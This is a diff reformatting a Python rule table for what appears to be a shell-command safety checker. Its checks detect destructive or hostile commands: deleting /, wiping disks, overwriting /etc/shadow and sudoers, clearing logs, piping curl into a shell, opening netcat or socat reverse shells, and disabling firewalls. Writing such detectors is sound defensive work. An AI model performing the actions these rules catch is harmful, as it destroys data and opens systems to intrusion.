@@ -1,6 +1,7 @@
 """The rule table. Each rule is data: id, category, risk, a reason a person understands,
 a small check over a normalised `Cmd`, and examples that must (and must not) trigger it.
 tests/test_safety_rules.py runs every rule's own examples."""
+
 from __future__ import annotations
 
 import re
@@ -26,7 +27,7 @@ class Rule:
     id: str
     category: str
     risk: str
-    reason: str                         # "{}" is replaced by what the check returned
+    reason: str  # "{}" is replaced by what the check returned
     check: Callable[[Cmd, Ctx], str | None]
     examples: tuple[str, ...] = ()
     counterexamples: tuple[str, ...] = ()
@@ -56,8 +57,13 @@ def _writes_to(cmd: Cmd, pred: Callable[[str], bool], append_ok: bool = False) -
 
 # ---- checks -------------------------------------------------------------------------------
 
+
 def rm_everything(cmd: Cmd, ctx: Ctx) -> str | None:
-    if cmd.name not in ("rm", "rmdir", "unlink", "srm", "trash", "gio") or cmd.name == "gio" and cmd.args[:1] != ["remove"]:
+    if (
+        cmd.name not in ("rm", "rmdir", "unlink", "srm", "trash", "gio")
+        or cmd.name == "gio"
+        and cmd.args[:1] != ["remove"]
+    ):
         return None
     if cmd.has("--no-preserve-root"):
         return "/ (with --no-preserve-root)"
@@ -71,7 +77,14 @@ def rm_system_files(cmd: Cmd, ctx: Ctx) -> str | None:
         return None
     if _recursive(cmd):
         # a directory straight under / that is not scratch space (`/data`, `/srv2`) is someone's
-        top = next((o for o in cmd.operands if re.fullmatch(r"/[^/*?\[]+", P.normalise(o)) and P.normalise(o) not in ("/tmp", "/var/tmp")), None)
+        top = next(
+            (
+                o
+                for o in cmd.operands
+                if re.fullmatch(r"/[^/*?\[]+", P.normalise(o)) and P.normalise(o) not in ("/tmp", "/var/tmp")
+            ),
+            None,
+        )
         if top:
             return top
     return _targets(cmd, ctx, (P.SYSTEM_DEEP,) + (() if _recursive(cmd) else (P.ROOT, P.HOME, P.SYSTEM)))
@@ -148,14 +161,24 @@ def disk_wipe(cmd: Cmd, ctx: Ctx) -> str | None:
         return next((o for o in cmd.operands if P.is_disk(o)), None)
     if cmd.name == "blkdiscard":
         return next((o for o in cmd.operands if P.is_disk(o)), None)
-    if cmd.name == "cryptsetup" and any(a.lower() in ("luksformat", "erase", "luksErase".lower()) for a in cmd.operands[:1]) \
-            or cmd.name == "nvme" and cmd.operands[:1] in (["format"], ["sanitize"]) \
-            or cmd.name == "hdparm" and any(a.startswith(("--security-erase", "--trim-sector-ranges")) for a in cmd.args) \
-            or cmd.name == "sgdisk" and cmd.has("Z", "o", "--zap-all", "--clear"):
+    if (
+        cmd.name == "cryptsetup"
+        and any(a.lower() in ("luksformat", "erase", "luksErase".lower()) for a in cmd.operands[:1])
+        or cmd.name == "nvme"
+        and cmd.operands[:1] in (["format"], ["sanitize"])
+        or cmd.name == "hdparm"
+        and any(a.startswith(("--security-erase", "--trim-sector-ranges")) for a in cmd.args)
+        or cmd.name == "sgdisk"
+        and cmd.has("Z", "o", "--zap-all", "--clear")
+    ):
         return next((o for o in cmd.operands if P.is_disk(o)), "a device")
     if cmd.name == "cp" and cmd.operands and P.is_disk(cmd.operands[-1]):
         return cmd.operands[-1]
-    if cmd.name == "diskutil" and cmd.args[:1] and cmd.args[0].lower() in ("erasedisk", "zerodisk", "secureerase", "randomdisk"):
+    if (
+        cmd.name == "diskutil"
+        and cmd.args[:1]
+        and cmd.args[0].lower() in ("erasedisk", "zerodisk", "secureerase", "randomdisk")
+    ):
         return " ".join(cmd.args[-1:])
     return _writes_to(cmd, P.is_disk)
 
@@ -168,7 +191,9 @@ def disk_write(cmd: Cmd, ctx: Ctx) -> str | None:
         return next((o for o in cmd.operands if P.is_disk(o)), None)
     if cmd.name == "wipefs" and (cmd.has("a") or any(a.startswith("--offset") or a == "-o" for a in cmd.args)):
         return next((o for o in cmd.operands if P.is_disk(o)), "a device")
-    if cmd.name in ("fdisk", "sfdisk", "gdisk", "cfdisk", "sgdisk", "parted") and not (cmd.has("l", "--list", "--print", "--version", "--help") and not cmd.has("w")):
+    if cmd.name in ("fdisk", "sfdisk", "gdisk", "cfdisk", "sgdisk", "parted") and not (
+        cmd.has("l", "--list", "--print", "--version", "--help") and not cmd.has("w")
+    ):
         if cmd.name == "parted" and (any(a in ("print", "list") for a in cmd.args) or cmd.has("l")):
             return None
         return next((o for o in cmd.operands if P.is_disk(o)), None)
@@ -208,10 +233,14 @@ def chmod_system(cmd: Cmd, ctx: Ctx) -> str | None:
 def _paths_of(cmd: Cmd) -> list[str]:
     """The files chmod/chown/chgrp change: the first operand is the mode or the owner."""
     ops = cmd.operands
-    if cmd.name in ("chmod", "chown", "chgrp") and not any(a.startswith("--reference") for a in cmd.args) \
-            and len(ops) > 1 and not ops[0].startswith(("/", "~", ".", "*")):
+    if (
+        cmd.name in ("chmod", "chown", "chgrp")
+        and not any(a.startswith("--reference") for a in cmd.args)
+        and len(ops) > 1
+        and not ops[0].startswith(("/", "~", ".", "*"))
+    ):
         return ops[1:]
-    return ops                  # `chmod -R /` with its mode left out is still judged on `/`
+    return ops  # `chmod -R /` with its mode left out is still judged on `/`
 
 
 def _fixes_own_files(cmd: Cmd) -> bool:
@@ -220,7 +249,9 @@ def _fixes_own_files(cmd: Cmd) -> bool:
     paths = cmd.operands[1:]
     if not paths or not all(_inside_home(o) for o in paths):
         return False
-    return (cmd.name == "chmod" and bool(_TIGHTEN.match(mode))) or (cmd.name in ("chown", "chgrp") and mode.split(":")[0] in _SELF)
+    return (cmd.name == "chmod" and bool(_TIGHTEN.match(mode))) or (
+        cmd.name in ("chown", "chgrp") and mode.split(":")[0] in _SELF
+    )
 
 
 def chmod_wide(cmd: Cmd, ctx: Ctx) -> str | None:
@@ -231,12 +262,16 @@ def chmod_wide(cmd: Cmd, ctx: Ctx) -> str | None:
         t = _targets(cmd, ctx, (P.SYSTEM_DEEP, P.CWD_ALL, P.UNKNOWN_VAR), paths)
         if t:
             return t
-        if cmd.name == "chmod" and any(m in ("777", "0777", "a+rwx", "ugo+rwx", "666", "a+w", "o+w") for m in cmd.operands):
+        if cmd.name == "chmod" and any(
+            m in ("777", "0777", "a+rwx", "ugo+rwx", "666", "a+w", "o+w") for m in cmd.operands
+        ):
             return _targets(cmd, ctx, (P.OTHER,), paths)
     return _targets(cmd, ctx, (P.ROOT, P.SYSTEM), paths)
 
 
-_SHELL_BINARIES = re.compile(r"^(/usr)?(/local)?/bin/(ba|z|da|k|fi|c|tc)?sh$|^(/usr)?/bin/(python\d*|perl|env|find|vim?|less)$")
+_SHELL_BINARIES = re.compile(
+    r"^(/usr)?(/local)?/bin/(ba|z|da|k|fi|c|tc)?sh$|^(/usr)?/bin/(python\d*|perl|env|find|vim?|less)$"
+)
 
 
 def setuid_shell(cmd: Cmd, ctx: Ctx) -> str | None:
@@ -248,8 +283,12 @@ def setuid_shell(cmd: Cmd, ctx: Ctx) -> str | None:
     return next((o for o in cmd.operands if _SHELL_BINARIES.match(o)), None)
 
 
-_AUTH_FILES = re.compile(r"^/(private/)?etc/(passwd|shadow|gshadow|group|sudoers|master\.passwd)$|^/etc/sudoers\.d/.*|^/etc/pam\.d/.*")
-_HOSTS_ETC = re.compile(r"^/(private/)?etc/(hosts|fstab|resolv\.conf|ssh/sshd_config|crontab|profile|environment|ld\.so\.preload)$|^/boot/")
+_AUTH_FILES = re.compile(
+    r"^/(private/)?etc/(passwd|shadow|gshadow|group|sudoers|master\.passwd)$|^/etc/sudoers\.d/.*|^/etc/pam\.d/.*"
+)
+_HOSTS_ETC = re.compile(
+    r"^/(private/)?etc/(hosts|fstab|resolv\.conf|ssh/sshd_config|crontab|profile|environment|ld\.so\.preload)$|^/boot/"
+)
 
 
 def overwrite_auth(cmd: Cmd, ctx: Ctx) -> str | None:
@@ -263,7 +302,9 @@ def overwrite_auth(cmd: Cmd, ctx: Ctx) -> str | None:
 
 
 def overwrite_system_config(cmd: Cmd, ctx: Ctx) -> str | None:
-    t = _writes_to(cmd, lambda p: bool(_HOSTS_ETC.match(P.normalise(p)) or _AUTH_FILES.match(P.normalise(p))), append_ok=False)
+    t = _writes_to(
+        cmd, lambda p: bool(_HOSTS_ETC.match(P.normalise(p)) or _AUTH_FILES.match(P.normalise(p))), append_ok=False
+    )
     if t:
         return t
     for r in cmd.redirects:
@@ -272,14 +313,31 @@ def overwrite_system_config(cmd: Cmd, ctx: Ctx) -> str | None:
     if cmd.name == "tee" and cmd.has("a", "--append"):
         return next((o for o in cmd.operands if _AUTH_FILES.match(P.normalise(o))), None)
     if cmd.name == "sed" and cmd.has("i", "--in-place"):
-        return next((o for o in cmd.operands if _AUTH_FILES.match(P.normalise(o)) or _HOSTS_ETC.match(P.normalise(o))), None)
+        return next(
+            (o for o in cmd.operands if _AUTH_FILES.match(P.normalise(o)) or _HOSTS_ETC.match(P.normalise(o))), None
+        )
     return None
 
 
-_SYSTEM_TREES = ("/bin/", "/sbin/", "/usr/", "/lib/", "/lib32/", "/lib64/", "/libx32/", "/etc/", "/boot/",
-                 "/private/etc/", "/System/", "/proc/sys/", "/sys/")
-_CORE_FILES = re.compile(r"^/(usr/)?(s?bin)/(ba|z|da|k|fi|c|tc)?sh$|^/(usr/)?lib(32|64|x32)?/(.*/)?(libc|ld-linux)[^/]*$"
-                         r"|^/boot/(vmlinuz|initrd|grub)|^/(usr/)?(s?bin)/(sudo|su|login|init)$|^/sbin/init$")
+_SYSTEM_TREES = (
+    "/bin/",
+    "/sbin/",
+    "/usr/",
+    "/lib/",
+    "/lib32/",
+    "/lib64/",
+    "/libx32/",
+    "/etc/",
+    "/boot/",
+    "/private/etc/",
+    "/System/",
+    "/proc/sys/",
+    "/sys/",
+)
+_CORE_FILES = re.compile(
+    r"^/(usr/)?(s?bin)/(ba|z|da|k|fi|c|tc)?sh$|^/(usr/)?lib(32|64|x32)?/(.*/)?(libc|ld-linux)[^/]*$"
+    r"|^/boot/(vmlinuz|initrd|grub)|^/(usr/)?(s?bin)/(sudo|su|login|init)$|^/sbin/init$"
+)
 _NOT_FILES = ("/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/zero")
 
 
@@ -305,24 +363,47 @@ def write_targets(cmd: Cmd) -> list[str]:
 def system_write(cmd: Cmd, ctx: Ctx) -> str | None:
     if cmd.name in ("cat", "echo", "printf") and not cmd.redirects:
         return None
-    return next((P.normalise(t) for t in write_targets(cmd) if (P.normalise(t) + "/").startswith(_SYSTEM_TREES)
-                 and not (P.normalise(t) + "/").startswith(("/usr/local/", "/etc/apt/sources.list.d/"))), None)
+    return next(
+        (
+            P.normalise(t)
+            for t in write_targets(cmd)
+            if (P.normalise(t) + "/").startswith(_SYSTEM_TREES)
+            and not (P.normalise(t) + "/").startswith(("/usr/local/", "/etc/apt/sources.list.d/"))
+        ),
+        None,
+    )
 
 
 def core_write(cmd: Cmd, ctx: Ctx) -> str | None:
-    return next((P.normalise(t) for t in write_targets(cmd) if _CORE_FILES.match(P.normalise(t)) or _AUTH_FILES.match(P.normalise(t))), None)
+    return next(
+        (
+            P.normalise(t)
+            for t in write_targets(cmd)
+            if _CORE_FILES.match(P.normalise(t)) or _AUTH_FILES.match(P.normalise(t))
+        ),
+        None,
+    )
 
 
 def _is_log(p: str) -> bool:
     p = P.normalise(p)
-    return p.startswith(("/var/log/", "/private/var/log/")) or p in ("/var/log", "~/.bash_history", "~/.zsh_history", "$HISTFILE")
+    return p.startswith(("/var/log/", "/private/var/log/")) or p in (
+        "/var/log",
+        "~/.bash_history",
+        "~/.zsh_history",
+        "$HISTFILE",
+    )
 
 
 def truncate_logs(cmd: Cmd, ctx: Ctx) -> str | None:
     t = _writes_to(cmd, _is_log)
     if t:
         return t
-    if cmd.name in ("truncate", "shred", "rm") or cmd.name == "journalctl" and cmd.has("--vacuum-time", "--vacuum-size", "--rotate"):
+    if (
+        cmd.name in ("truncate", "shred", "rm")
+        or cmd.name == "journalctl"
+        and cmd.has("--vacuum-time", "--vacuum-size", "--rotate")
+    ):
         if cmd.name == "journalctl":
             return "the system journal"
         return next((o for o in cmd.operands if _is_log(o)), None)
@@ -333,7 +414,7 @@ def move_system(cmd: Cmd, ctx: Ctx) -> str | None:
     if cmd.name != "mv" or len(cmd.operands) < 2:
         return None
     if _inside_home(cmd.operands[-1]) and all(_inside_home(o) for o in cmd.operands[:-1]):
-        return None             # a rename inside your home (`mv ~/.config ~/.config.bak`)
+        return None  # a rename inside your home (`mv ~/.config ~/.config.bak`)
     src = [o for o in cmd.operands[:-1] if P.classify(o, ctx.cwd, ctx.home) in (P.ROOT, P.HOME, P.SYSTEM)]
     if src:
         return src[0]
@@ -346,20 +427,29 @@ def move_to_null(cmd: Cmd, ctx: Ctx) -> str | None:
     return None
 
 
-_FETCHERS = frozenset("curl wget fetch http https xh aria2c lwp-request GET iwr irm Invoke-WebRequest Invoke-RestMethod".split())
-_RUNNERS = frozenset("sh bash zsh dash ksh fish python python3 perl ruby node php sudo iex Invoke-Expression source .".split())
+_FETCHERS = frozenset(
+    "curl wget fetch http https xh aria2c lwp-request GET iwr irm Invoke-WebRequest Invoke-RestMethod".split()
+)
+_RUNNERS = frozenset(
+    "sh bash zsh dash ksh fish python python3 perl ruby node php sudo iex Invoke-Expression source .".split()
+)
 
 
 def pipe_to_shell(cmd: Cmd, ctx: Ctx) -> str | None:
-    if cmd.name in _RUNNERS and any(p in _FETCHERS for p in cmd.pipe_before) and \
-            (cmd.name == "sudo" or not cmd.operands or cmd.operands[0] in ("-", "/dev/stdin") or cmd.has("s")):
+    if (
+        cmd.name in _RUNNERS
+        and any(p in _FETCHERS for p in cmd.pipe_before)
+        and (cmd.name == "sudo" or not cmd.operands or cmd.operands[0] in ("-", "/dev/stdin") or cmd.has("s"))
+    ):
         fetch = next(p for p in cmd.pipe_before if p in _FETCHERS)
         return f"{fetch} … | {cmd.name}"
     return None
 
 
 def reverse_shell(cmd: Cmd, ctx: Ctx) -> str | None:
-    if cmd.name in ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd") and (cmd.has("e", "c") or any(a.startswith(("--exec", "--sh-exec")) for a in cmd.args)):
+    if cmd.name in ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd") and (
+        cmd.has("e", "c") or any(a.startswith(("--exec", "--sh-exec")) for a in cmd.args)
+    ):
         return cmd.name + " -e"
     if cmd.name == "socat" and any(re.search(r"(?i)exec:|system:", a) for a in cmd.args):
         return "socat exec:"
@@ -371,14 +461,20 @@ def reverse_shell(cmd: Cmd, ctx: Ctx) -> str | None:
     return None
 
 
-_HARMLESS_SIGNALS = frozenset("0 HUP SIGHUP 1 USR1 SIGUSR1 10 USR2 SIGUSR2 12 CONT SIGCONT 18 WINCH SIGWINCH 28 INFO".split())
+_HARMLESS_SIGNALS = frozenset(
+    "0 HUP SIGHUP 1 USR1 SIGUSR1 10 USR2 SIGUSR2 12 CONT SIGCONT 18 WINCH SIGWINCH 28 INFO".split()
+)
 
 
 def _signal(cmd: Cmd) -> str:
     for k, a in enumerate(cmd.args):
         if a in ("-s", "--signal", "-n") and k + 1 < len(cmd.args):
             return cmd.args[k + 1].upper()
-        if k + 1 < len(cmd.args) and re.fullmatch(r"-(\d+|[A-Za-z][A-Za-z0-9+]*)", a) and a not in ("-l", "-L", "-u", "-f", "-x", "-e", "-i", "-g", "-q", "-v", "-w", "-I", "-r", "-o", "-n"):
+        if (
+            k + 1 < len(cmd.args)
+            and re.fullmatch(r"-(\d+|[A-Za-z][A-Za-z0-9+]*)", a)
+            and a not in ("-l", "-L", "-u", "-f", "-x", "-e", "-i", "-g", "-q", "-v", "-w", "-I", "-r", "-o", "-n")
+        ):
             return a[1:].upper()
     return "TERM"
 
@@ -387,19 +483,25 @@ def kill_everything(cmd: Cmd, ctx: Ctx) -> str | None:
     if cmd.name == "killall5":
         return "every process"
     if cmd.name in ("kill", "pkill", "killall") and _signal(cmd) in _HARMLESS_SIGNALS:
-        return None             # `kill -0 1` asks whether PID 1 exists; `kill -HUP 1` reloads it
+        return None  # `kill -0 1` asks whether PID 1 exists; `kill -HUP 1` reloads it
     if cmd.name in ("pkill", "killall", "slay") and any(a in ("-u", "--user") for a in cmd.args):
         users = [cmd.args[k + 1] for k, a in enumerate(cmd.args[:-1]) if a in ("-u", "--user")]
         if any(u in ("root", "0") for u in users):
             return "every process of root"
-    if cmd.name in ("pkill", "killall") and any(o in (".", ".*", "''", "") for o in cmd.operands) and (cmd.has("f") or cmd.name == "pkill"):
+    if (
+        cmd.name in ("pkill", "killall")
+        and any(o in (".", ".*", "''", "") for o in cmd.operands)
+        and (cmd.has("f") or cmd.name == "pkill")
+    ):
         return "every process (the pattern matches all)"
     if cmd.name == "kill":
         if any(o in ("1", "-1") for o in cmd.operands) or "-1" in cmd.args[-1:]:
             return "PID 1" if "1" in cmd.operands else "every process you can signal (-1)"
         if any(re.fullmatch(r"-\d+|-[A-Z]+", a) for a in cmd.args) and cmd.args[-1:] == ["-1"]:
             return "every process"
-    if cmd.name in ("pkill", "killall") and any(o in ("init", "systemd", "launchd", "sshd", "-1") for o in cmd.operands):
+    if cmd.name in ("pkill", "killall") and any(
+        o in ("init", "systemd", "launchd", "sshd", "-1") for o in cmd.operands
+    ):
         return next(o for o in cmd.operands if o in ("init", "systemd", "launchd", "sshd", "-1"))
     return None
 
@@ -421,15 +523,24 @@ def power(cmd: Cmd, ctx: Ctx) -> str | None:
         return cmd.name
     if cmd.name in ("init", "telinit") and cmd.operands[:1] in (["0"], ["6"]):
         return f"{cmd.name} {cmd.operands[0]}"
-    if cmd.name in ("systemctl", "loginctl") and any(a in ("poweroff", "reboot", "halt", "kexec", "emergency", "rescue", "suspend", "hibernate") for a in cmd.operands):
-        return "systemctl " + next(a for a in cmd.operands if a in ("poweroff", "reboot", "halt", "kexec", "emergency", "rescue", "suspend", "hibernate"))
+    if cmd.name in ("systemctl", "loginctl") and any(
+        a in ("poweroff", "reboot", "halt", "kexec", "emergency", "rescue", "suspend", "hibernate")
+        for a in cmd.operands
+    ):
+        return "systemctl " + next(
+            a
+            for a in cmd.operands
+            if a in ("poweroff", "reboot", "halt", "kexec", "emergency", "rescue", "suspend", "hibernate")
+        )
     if cmd.name in ("Stop-Computer", "Restart-Computer"):
         return cmd.name
     return None
 
 
 def firewall_off(cmd: Cmd, ctx: Ctx) -> str | None:
-    if cmd.name in ("iptables", "ip6tables", "iptables-legacy", "iptables-nft") and (cmd.has("F", "X", "--flush") or ("P" in cmd.flags and "ACCEPT" in cmd.args)):
+    if cmd.name in ("iptables", "ip6tables", "iptables-legacy", "iptables-nft") and (
+        cmd.has("F", "X", "--flush") or ("P" in cmd.flags and "ACCEPT" in cmd.args)
+    ):
         return cmd.name + " " + " ".join(cmd.args)
     if cmd.name == "ufw" and cmd.operands[:1] in (["disable"], ["reset"]):
         return "ufw " + cmd.operands[0]
@@ -437,7 +548,11 @@ def firewall_off(cmd: Cmd, ctx: Ctx) -> str | None:
         return "nft flush ruleset"
     if cmd.name == "pfctl" and cmd.has("d", "F"):
         return "pfctl " + " ".join(cmd.args)
-    if cmd.name in ("systemctl", "service") and any(a in ("stop", "disable", "mask") for a in cmd.operands) and any(re.match(r"(firewalld|ufw|iptables|nftables)", a) for a in cmd.operands):
+    if (
+        cmd.name in ("systemctl", "service")
+        and any(a in ("stop", "disable", "mask") for a in cmd.operands)
+        and any(re.match(r"(firewalld|ufw|iptables|nftables)", a) for a in cmd.operands)
+    ):
         return "the firewall service"
     if cmd.name == "netsh" and "off" in [a.lower() for a in cmd.args]:
         return "Windows firewall"
@@ -463,7 +578,7 @@ def git_destructive(cmd: Cmd, ctx: Ctx) -> str | None:
     while i < len(args) and args[i].startswith("-"):
         i += 2 if args[i] in ("-C", "-c", "--git-dir", "--work-tree") else 1
     sub = args[i] if i < len(args) else ""
-    rest = args[i + 1:]
+    rest = args[i + 1 :]
     if sub == "push" and any(a.startswith(":") and len(a) > 1 for a in rest):
         return "git push :branch (deletes the remote branch)"
     if sub == "update-ref" and ("-d" in rest or "--delete" in rest):
@@ -480,15 +595,30 @@ def git_destructive(cmd: Cmd, ctx: Ctx) -> str | None:
         return "git worktree remove --force"
     if sub == "push" and any(re.match(r"--force(=|-with-lease-if-includes|$)", x) for x in rest):
         return "git push --force"
-    if (sub == "checkout" and "--" in rest and rest[rest.index("--") + 1:]) or \
-            (sub == "restore" and not ("--staged" in rest or "-S" in rest) or sub == "restore" and {"--worktree", "-W"} & set(rest)):
-        files = [x for x in rest[rest.index("--") + 1:]] if "--" in rest else [x for x in rest if not x.startswith("-")]
+    if (sub == "checkout" and "--" in rest and rest[rest.index("--") + 1 :]) or (
+        sub == "restore"
+        and not ("--staged" in rest or "-S" in rest)
+        or sub == "restore"
+        and {"--worktree", "-W"} & set(rest)
+    ):
+        files = (
+            [x for x in rest[rest.index("--") + 1 :]] if "--" in rest else [x for x in rest if not x.startswith("-")]
+        )
         if files:
             return f"git {sub} {' '.join(files)[:40]} (uncommitted changes to it are discarded)"
     unstage_only = sub == "restore" and ("--staged" in rest or "-S" in rest) and not ({"--worktree", "-W"} & set(rest))
-    if sub in ("checkout", "restore") and not unstage_only and any(P.normalise(a) in (".", "*", "./*", ":/") for a in rest if not a.startswith("-")):
+    if (
+        sub in ("checkout", "restore")
+        and not unstage_only
+        and any(P.normalise(a) in (".", "*", "./*", ":/") for a in rest if not a.startswith("-"))
+    ):
         return f"git {sub} ."
-    if sub == "push" and any(a in ("-f", "--force", "--mirror", "--delete", "-d") or (a.startswith("+") and len(a) > 1) or re.fullmatch(r"-[a-zA-Z]*f[a-zA-Z]*", a) for a in rest):
+    if sub == "push" and any(
+        a in ("-f", "--force", "--mirror", "--delete", "-d")
+        or (a.startswith("+") and len(a) > 1)
+        or re.fullmatch(r"-[a-zA-Z]*f[a-zA-Z]*", a)
+        for a in rest
+    ):
         return "git push --force" if "--delete" not in rest and "-d" not in rest else "git push --delete"
     if sub == "reset" and "--hard" in rest:
         return "git reset --hard"
@@ -510,16 +640,24 @@ def git_destructive(cmd: Cmd, ctx: Ctx) -> str | None:
 def container_mass_delete(cmd: Cmd, ctx: Ctx) -> str | None:
     a = cmd.args
     if cmd.name in ("docker", "podman", "nerdctl"):
-        if a[:2] in (["system", "prune"], ["volume", "prune"], ["image", "prune"], ["container", "prune"], ["network", "prune"], ["builder", "prune"]) and cmd.has("a", "f", "--all", "--volumes", "--force"):
+        if a[:2] in (
+            ["system", "prune"],
+            ["volume", "prune"],
+            ["image", "prune"],
+            ["container", "prune"],
+            ["network", "prune"],
+            ["builder", "prune"],
+        ) and cmd.has("a", "f", "--all", "--volumes", "--force"):
             return f"{cmd.name} {a[0]} prune"
-        if (a[:1] == ["compose"] and "down" in a and cmd.has("v", "--volumes")):
+        if a[:1] == ["compose"] and "down" in a and cmd.has("v", "--volumes"):
             return f"{cmd.name} compose down --volumes"
         if a[:2] in (["volume", "prune"], ["container", "prune"], ["buildx", "prune"]):
             return f"{cmd.name} {' '.join(a[:2])}"
         if a[:1] in (["stop"], ["kill"], ["rm"]) and any("…" in x for x in a):
             return f"{cmd.name} {a[0]} $(…) (every container listed)"
-        if (a[:1] in (["rm"], ["rmi"], ["kill"]) or a[:2] in (["container", "rm"], ["image", "rm"], ["volume", "rm"])) \
-                and (any(s for s in a if "…" in s) or any(x in ("$(docker", "-aq", "-q") for x in a)):
+        if (
+            a[:1] in (["rm"], ["rmi"], ["kill"]) or a[:2] in (["container", "rm"], ["image", "rm"], ["volume", "rm"])
+        ) and (any(s for s in a if "…" in s) or any(x in ("$(docker", "-aq", "-q") for x in a)):
             return f"{cmd.name} {a[0]} $(…)"
     if cmd.name in ("docker-compose", "podman-compose") and "down" in a and cmd.has("v", "--volumes"):
         return f"{cmd.name} down --volumes"
@@ -529,11 +667,28 @@ def container_mass_delete(cmd: Cmd, ctx: Ctx) -> str | None:
     return None
 
 
-_SQL_DANGER = re.compile(r"(?i)\b(drop\s+(database|schema|table)|truncate\s+(table\s+)?\w|delete\s+from\s+\w+\s*(;|$)|flushall|flushdb|dropDatabase\(\))")
+_SQL_DANGER = re.compile(
+    r"(?i)\b(drop\s+(database|schema|table)|truncate\s+(table\s+)?\w|delete\s+from\s+\w+\s*(;|$)|flushall|flushdb|dropDatabase\(\))"
+)
 
 
 def sql_destructive(cmd: Cmd, ctx: Ctx) -> str | None:
-    if cmd.name in ("mysql", "mariadb", "psql", "sqlite3", "sqlcmd", "clickhouse-client", "cqlsh", "mongo", "mongosh", "redis-cli", "duckdb", "cockroach", "snowsql", "bq"):
+    if cmd.name in (
+        "mysql",
+        "mariadb",
+        "psql",
+        "sqlite3",
+        "sqlcmd",
+        "clickhouse-client",
+        "cqlsh",
+        "mongo",
+        "mongosh",
+        "redis-cli",
+        "duckdb",
+        "cockroach",
+        "snowsql",
+        "bq",
+    ):
         text = " ".join(cmd.args) + " " + (cmd.heredoc or "")
         m = _SQL_DANGER.search(text)
         if m:
@@ -550,14 +705,17 @@ def sql_destructive(cmd: Cmd, ctx: Ctx) -> str | None:
 
 
 _SQL_WORDS = frozenset("DROP DELETE UPDATE TRUNCATE ALTER FLUSHALL FLUSHDB SHUTDOWN".split())
-_SQL_STATEMENT = re.compile(r"(?i)^(update\s+\S+\s+set\b.*|alter\s+table\s+\S+\s+drop\b.*|drop\s+(index|role|user|view|column)\b.*"
-                            r"|shutdown(\s+(no)?save)?|db\.[\w-]+\.drop\(\)|db\.dropdatabase\(\))$")
+_SQL_STATEMENT = re.compile(
+    r"(?i)^(update\s+\S+\s+set\b.*|alter\s+table\s+\S+\s+drop\b.*|drop\s+(index|role|user|view|column)\b.*"
+    r"|shutdown(\s+(no)?save)?|db\.[\w-]+\.drop\(\)|db\.dropdatabase\(\))$"
+)
 
 
 def container_delete(cmd: Cmd, ctx: Ctx) -> str | None:
     a = cmd.args
-    if cmd.name in ("docker", "podman", "nerdctl") and \
-            (a[:2] in (["volume", "rm"], ["network", "rm"]) or (a[:1] == ["rmi"] and cmd.has("f", "--force"))):
+    if cmd.name in ("docker", "podman", "nerdctl") and (
+        a[:2] in (["volume", "rm"], ["network", "rm"]) or (a[:1] == ["rmi"] and cmd.has("f", "--force"))
+    ):
         return f"{cmd.name} {' '.join(a[:2])}"
     if cmd.name in ("kubectl", "oc", "k"):
         sub = next((x for x in a if not x.startswith("-")), "")
@@ -572,8 +730,11 @@ def container_delete(cmd: Cmd, ctx: Ctx) -> str | None:
 
 
 def privileged_container(cmd: Cmd, ctx: Ctx) -> str | None:
-    if cmd.name in ("docker", "podman", "nerdctl") and cmd.args[:1] in (["run"], ["create"], ["exec"]) and \
-            any(x == "--privileged" or x.startswith("--privileged=t") for x in cmd.args):
+    if (
+        cmd.name in ("docker", "podman", "nerdctl")
+        and cmd.args[:1] in (["run"], ["create"], ["exec"])
+        and any(x == "--privileged" or x.startswith("--privileged=t") for x in cmd.args)
+    ):
         return f"{cmd.name} {cmd.args[0]} --privileged"
     return None
 
@@ -598,9 +759,17 @@ def windows_wipe(cmd: Cmd, ctx: Ctx) -> str | None:
     drive = re.compile(r"^[a-z]:\\?(\\\*|\*)?$")
     if name == "format" and any(re.fullmatch(r"[a-z]:", a) for a in low):
         return "format " + next(a for a in low if re.fullmatch(r"[a-z]:", a)).upper()
-    if name in ("del", "erase", "rd", "rmdir") and any(a in ("/s",) for a in low) and any(drive.match(a) or a in ("\\", "%systemroot%", "%userprofile%") for a in low):
+    if (
+        name in ("del", "erase", "rd", "rmdir")
+        and any(a in ("/s",) for a in low)
+        and any(drive.match(a) or a in ("\\", "%systemroot%", "%userprofile%") for a in low)
+    ):
         return " ".join(cmd.args)
-    if name in ("remove-item", "rm", "ri", "del") and any(a in ("-recurse", "-r") for a in low) and any(drive.match(a) or a.startswith(("c:\\windows", "$env:userprofile", "~")) for a in low):
+    if (
+        name in ("remove-item", "rm", "ri", "del")
+        and any(a in ("-recurse", "-r") for a in low)
+        and any(drive.match(a) or a.startswith(("c:\\windows", "$env:userprofile", "~")) for a in low)
+    ):
         return " ".join(cmd.args)
     if name in ("format-volume", "clear-disk", "initialize-disk"):
         return cmd.name
@@ -616,7 +785,12 @@ def cloud_destroy(cmd: Cmd, ctx: Ctx) -> str | None:
     if cmd.name in ("terraform", "tofu"):
         if a[:1] == ["apply"] and any(x.lstrip("-") == "auto-approve" for x in a):
             return "terraform apply -auto-approve (changes infrastructure without showing the plan)"
-        if a[:1] == ["force-unlock"] or a[:2] in (["state", "rm"], ["state", "mv"], ["state", "replace-provider"], ["workspace", "delete"]):
+        if a[:1] == ["force-unlock"] or a[:2] in (
+            ["state", "rm"],
+            ["state", "mv"],
+            ["state", "replace-provider"],
+            ["workspace", "delete"],
+        ):
             return "terraform " + " ".join(a[:2] if a[0] != "force-unlock" else a[:1])
     if cmd.name == "aws" and "s3" in a[:1] and "rm" in a and "--recursive" in a:
         return "aws s3 rm --recursive"
@@ -627,19 +801,23 @@ def cloud_destroy(cmd: Cmd, ctx: Ctx) -> str | None:
     return None
 
 
-_REMOTE_CLIS = frozenset("""aws gcloud az gh glab heroku vercel netlify fly flyctl doctl linode-cli hcloud oci ibmcloud
+_REMOTE_CLIS = frozenset(
+    """aws gcloud az gh glab heroku vercel netlify fly flyctl doctl linode-cli hcloud oci ibmcloud
 firebase supabase helm vault op kafka-topics kafka-configs rabbitmqctl nats rclone velero restic borg circleci
 gitlab-runner npm yarn pnpm cargo s3cmd mc consul etcdctl nomad pulumi serverless sls eksctl virsh vagrant
 multipass lxc zfs zpool btrfs vgremove lvremove pvremove gsutil bq redis-cli jenkins-cli wrangler railway
 render stripe twilio okta auth0 databricks snowsql openstack swift doppler rabbitmqadmin rabbitmqctl kafka-acls
-kafka-consumer-groups kafka-delete-records infisical""".split())
+kafka-consumer-groups kafka-delete-records infisical""".split()
+)
